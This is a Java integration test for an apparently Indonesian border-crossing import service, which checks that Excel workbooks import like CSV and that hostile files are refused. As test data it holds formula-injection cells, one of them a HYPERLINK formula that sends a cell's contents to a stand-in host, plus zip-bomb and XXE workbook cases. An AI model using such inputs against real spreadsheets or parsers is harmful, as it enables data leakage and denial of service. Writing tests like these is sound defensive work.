package id.pantau.crossings;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.LocalDate;
import java.time.LocalDateTime;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Locale;
import java.util.Map;

import id.pantau.PantauIntegrationTest;
import id.pantau.WebSession;
import id.pantau.crossings.domain.CrossingImports;
import id.pantau.crossings.domain.ImportResult;
import id.pantau.platform.tables.Csv;
import id.pantau.platform.tables.DelimitedRows;
import id.pantau.platform.tables.UnreadableFile;
import id.pantau.platform.tables.Workbooks;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.context.MessageSource;
import org.springframework.jdbc.core.simple.JdbcClient;

/** Crossing files as Excel workbooks: read like the same data in CSV, and hostile workbooks refused with a reason. */
@PantauIntegrationTest
class CrossingWorkbookImportIntegrationTests {

	private static final List<Object> HEADER = List.of("Arah", "Waktu", "TPI", "Nomor Dokumen", "Kewarganegaraan",
			"Nama", "Tanggal Lahir", "Jenis Kelamin", "Jenis Izin", "Izin Berlaku Sampai", "Alat Angkut");

	@TempDir
	Path folder;

	@Autowired
	CrossingImports imports;

	@Autowired
	JdbcClient jdbc;

	@Autowired
	MessageSource messages;

	@LocalServerPort
	int port;

	@Test
	void aWorkbookWithDateCellsTextAndNumbersImportsLikeTheSameDataInCsv() throws Exception {
		String csvTag = unique();
		String csv = String.join("\r\n", "Arah;Waktu;TPI;Nomor Dokumen;Kewarganegaraan;Nama;Tanggal Lahir;"
				+ "Jenis Kelamin;Jenis Izin;Izin Berlaku Sampai;Alat Angkut",
				"MASUK;2026-03-01 14:30;TUAL-LAUT;MA" + csvTag + "1;Myanmar;KYAW MIN HTUN;1979-03-15;L;VOA;2026-03-31;KM Sirimau",
				"KELUAR;2026-03-20 09:00;TUAL-LAUT;MA" + csvTag + "1;MMR;KYAW MIN HTUN;1979-03-15;L;;;KM Sirimau",
				"MASUK;01/04/2026 08:15;AMBON-UDARA;AA" + csvTag + "2;Thailand;SOMCHAI SRISUK;1970;L;ITK;2026-05-01;GA 648",
				"MASUK;2026-04-02 10:00;TUAL-LAUT;9" + csvTag + ";Viet Nam;NGUYEN VAN HUNG;;L;;;",
				"MASUK;2026-04-03 10:00;TUAL-LAUT;F" + csvTag + ";MMR;=CONCAT(\"A\",\"B\");;;;;") + "\r\n";
		Path csvFile = folder.resolve("perlintasan.csv");
		Files.writeString(csvFile, csv, StandardCharsets.UTF_8);

		String xlsxTag = unique();
		List<List<Object>> sheet = new ArrayList<>();
		sheet.add(HEADER);
		sheet.add(List.of("MASUK", LocalDateTime.of(2026, 3, 1, 14, 30), "TUAL-LAUT", "MA" + xlsxTag + "1", "Myanmar",
				"KYAW MIN HTUN", LocalDate.of(1979, 3, 15), "L", "VOA", LocalDate.of(2026, 3, 31), "KM Sirimau"));
		sheet.add(Arrays.asList("KELUAR", "2026-03-20 09:00", "TUAL-LAUT", "MA" + xlsxTag + "1", "MMR", "KYAW MIN HTUN",
				"1979-03-15", "L", null, null, "KM Sirimau"));
		sheet.add(List.of("MASUK", "01/04/2026 08:15", "AMBON-UDARA", "AA" + xlsxTag + "2", "Thailand",
				"SOMCHAI SRISUK", 1970, "L", "ITK", "2026-05-01", "GA 648"));
		sheet.add(Arrays.asList("MASUK", LocalDateTime.of(2026, 4, 2, 10, 0), "TUAL-LAUT",
				Long.parseLong("9" + xlsxTag), "Viet Nam", "NGUYEN VAN HUNG", null, "L"));
		sheet.add(List.of("MASUK", LocalDateTime.of(2026, 4, 3, 10, 0), "TUAL-LAUT", "F" + xlsxTag, "MMR",
				new Workbooks.Formula("CONCAT(\"A\",\"B\")")));
		Path xlsxFile = Workbooks.write(folder, true, sheet);

		ImportResult fromCsv = imports.importFile(csvFile, provenance("perlintasan.csv"), null, p -> {
		});
		ImportResult fromXlsx = imports.importFile(xlsxFile, provenance("perlintasan.xlsx"), null, p -> {
		});

		assertThat(fromXlsx.read()).isEqualTo(5);
		assertThat(fromXlsx.added()).isEqualTo(4);
		assertThat(fromXlsx.refused()).isEqualTo(1);
		assertThat(List.of(fromXlsx.read(), fromXlsx.added(), fromXlsx.known(), fromXlsx.refused()))
				.isEqualTo(List.of(fromCsv.read(), fromCsv.added(), fromCsv.known(), fromCsv.refused()));
		assertThat(crossings(fromXlsx.batchId(), xlsxTag)).isEqualTo(crossings(fromCsv.batchId(), csvTag))
				.hasSize(4);
		assertThat(jdbc.sql("select reason_key || ' ' || raw from import_row_error where batch_id = :batch")
				.param("batch", fromXlsx.batchId()).query(String.class).single())
				.startsWith("import.row.formula").contains("'=CONCAT(");
	}

	/**
	 * Issue 16, item 10: the refused-rows file wrote the uploaded header as it came, so a header cell
	 * {@code =HYPERLINK(...)} ran as a formula in the spreadsheet of whoever opened it. Every cell of it, the header
	 * included, now goes through the one formula guard.
	 */
	@Test
	void aFormulaInTheHeaderIsNeutralisedInTheRefusedRowsFile() throws Exception {
		String tag = unique();
		List<Object> header = new ArrayList<>(HEADER);
		header.add("=HYPERLINK(\"http://contoh.test/?\"&A2,\"klik\")");
		header.add("@SUM(1+1)");
		Path file = Workbooks.write(folder, true, List.of(header,
				List.of("NAIK", "2026-04-03 10:00", "TUAL-LAUT", "X" + tag, "MMR", "AUNG", "", "", "", "", "", "catatan",
						"=1+2")));
		ImportResult result = imports.importFile(file, provenance("rumus.xlsx"), null, p -> {
		});
		assertThat(result.refused()).isEqualTo(1);

		String refused = WebSession.loggedIn(port, "imigrasi")
				.get("/perlintasan/batch/" + result.batchId() + "/ditolak.csv").body();
		List<String> headerCells = DelimitedRows.fields(refused.lines().findFirst().orElseThrow().substring(1));
		assertThat(headerCells).contains("'=HYPERLINK(\"http://contoh.test/?\"&A2,\"klik\")", "'@SUM(1+1)",
				"alasan_ditolak");
		refused.lines().skip(1).map(DelimitedRows::fields).forEach(cells -> assertThat(cells)
				.noneMatch(Csv::isFormula).contains("'=1+2"));
		assertThat(headerCells).noneMatch(Csv::isFormula);
	}

	/**
	 * Issue 16, item 6: a workbook of a million bad rows kept every one of them. All are counted, the first
	 * {@code pantau.crossings.max-stored-refused-rows} kept, and the batch's page says that the rest were only counted.
	 */
	@Test
	void refusedRowsBeyondTheCapAreCountedNotKeptAndThePageSaysSo() throws Exception {
		int cap = imports.maxStoredRefusedRows();
		int bad = cap + 25;
		List<List<Object>> sheet = new ArrayList<>();
		sheet.add(HEADER);
		String tag = unique();
		for (int i = 0; i < bad; i++) {
			sheet.add(List.of("NAIK", "2026-04-03 10:00", "TUAL-LAUT", "X" + tag + i, "MMR", "AUNG"));
		}
		sheet.add(List.of("MASUK", "2026-04-03 10:00", "TUAL-LAUT", "G" + tag, "MMR", "AUNG"));
		Path file = Workbooks.write(folder, true, sheet);

		ImportResult result = imports.importFile(file, provenance("banyak-salah.xlsx"), null, p -> {
		});

		assertThat(result.refused()).isEqualTo(bad);
		assertThat(result.added()).isEqualTo(1);
		assertThat(jdbc.sql("select count(*) from import_row_error where batch_id = :batch")
				.param("batch", result.batchId()).query(Long.class).single()).isEqualTo(cap);
		WebSession officer = WebSession.loggedIn(port, "imigrasi");
		assertThat(officer.get("/perlintasan/batch/" + result.batchId()).body()).contains("id=\"refused-capped\"")
				.contains("25 baris lain yang ditolak hanya dihitung");
		assertThat(officer.get("/perlintasan/batch/" + result.batchId() + "/ditolak.csv").body().lines().count())
				.isEqualTo(cap + 1);
	}

	@Test
	void aZipBombIsRefusedWithItsMessageWithinACoupleOfSeconds() throws Exception {
		Path bomb = Workbooks.zipBomb(folder);
		long batches = batches();
		long start = System.nanoTime();
		assertThatThrownBy(() -> imports.importFile(bomb, provenance("bom.xlsx"), null, p -> {
		})).isInstanceOfSatisfying(UnreadableFile.class,
				e -> assertThat(message(e)).contains("zip bomb").contains("ditolak"));
		assertThat(Duration.ofNanos(System.nanoTime() - start)).isLessThan(Duration.ofSeconds(2));
		assertThat(batches()).isEqualTo(batches);
	}

	@Test
	void anExternalEntityIsRefusedAndNothingOfTheFileItNamesLeaks() throws Exception {
		Path file = Workbooks.externalEntity(folder);
		long batches = batches();
		assertThatThrownBy(() -> imports.importFile(file, provenance("xxe.xlsx"), null, p -> {
		})).isInstanceOfSatisfying(UnreadableFile.class, e -> {
			assertThat(e.messageKey()).isEqualTo("import.unsafeXml");
			assertThat(message(e)).contains("DTD").doesNotContain("root:");
		});
		assertThat(batches()).isEqualTo(batches);
		assertThat(jdbc.sql("select count(*) from crossing where full_name like '%root:%' or transport like '%root:%'")
				.query(Long.class).single()).isZero();
		assertThat(jdbc.sql("select count(*) from import_row_error where raw like '%root:%'").query(Long.class)
				.single()).isZero();
	}

	@Test
	void aZipThatIsNotAWorkbookIsRefusedWithAClearMessage() throws Exception {
		assertThatThrownBy(() -> imports.importFile(Workbooks.notAWorkbook(folder), provenance("arsip.zip"), null,
				p -> {
				})).isInstanceOfSatisfying(UnreadableFile.class,
						e -> assertThat(message(e)).isEqualTo("Berkas ini arsip ZIP tetapi bukan buku kerja Excel (XLSX)."));
	}

	@Test
	void anOldOrProtectedWorkbookIsRefusedWithAClearMessage() throws Exception {
		Path file = folder.resolve("lama.xls");
		byte[] ole2 = new byte[512];
		System.arraycopy(new byte[] { (byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0 }, 0, ole2, 0, 4);
		Files.write(file, ole2);
		assertThatThrownBy(() -> imports.importFile(file, provenance("lama.xls"), null, p -> {
		})).isInstanceOfSatisfying(UnreadableFile.class,
				e -> assertThat(e.messageKey()).isEqualTo("import.oldOrProtected"));
	}

	private List<Map<String, Object>> crossings(long batchId, String tag) {
		return jdbc.sql("""
				select direction, crossed_at, port_code, replace(document_number, :tag, '#') as document, nationality,
				  full_name, birth_date, birth_year, sex, permit_type, stay_until, transport
				from crossing where batch_id = :batch order by crossed_at, document_number""")
				.param("tag", tag).param("batch", batchId).query().listOfRows();
	}

	private String message(UnreadableFile e) {
		return messages.getMessage(e.messageKey(), new Object[] { e.argument() }, Locale.forLanguageTag("id"));
	}

	private long batches() {
		return jdbc.sql("select count(*) from import_batch").query(Long.class).single();
	}

	private static CrossingImports.Provenance provenance(String file) {
		return new CrossingImports.Provenance("imigrasi", file, "Surat Kanim Tual W.27-123", "SIMKIM Kanim Tual");
	}

	private static String unique() {
		return Long.toString(System.nanoTime() % 1_000_000_000L);
	}
}
